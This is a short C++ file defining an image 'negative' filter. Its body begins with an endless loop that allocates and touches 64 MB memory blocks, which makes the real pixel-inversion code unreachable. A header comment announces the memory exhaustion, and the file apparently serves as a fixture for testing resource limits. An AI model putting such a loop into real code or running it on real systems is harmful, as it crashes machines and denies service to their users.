// Takes memory without end.

#include <cstdlib>

#include "grey.hpp"

void negative(Image& image, WorkLog& log) {
    constexpr std::size_t much = 64 << 20;
    while (true) {
        auto* bytes = static_cast<volatile char*>(std::malloc(much));
        if (bytes == nullptr) continue;
        for (std::size_t i = 0; i < much; i += 4096) bytes[i] = 1;
    }
    for (int y = 0; y < image.height(); ++y) {
        const WorkLog::Item noted = log.item(y);
        for (Pixel& pixel : image.row(y)) {
            pixel.red = 255 - pixel.red;
            pixel.green = 255 - pixel.green;
            pixel.blue = 255 - pixel.blue;
        }
    }
}
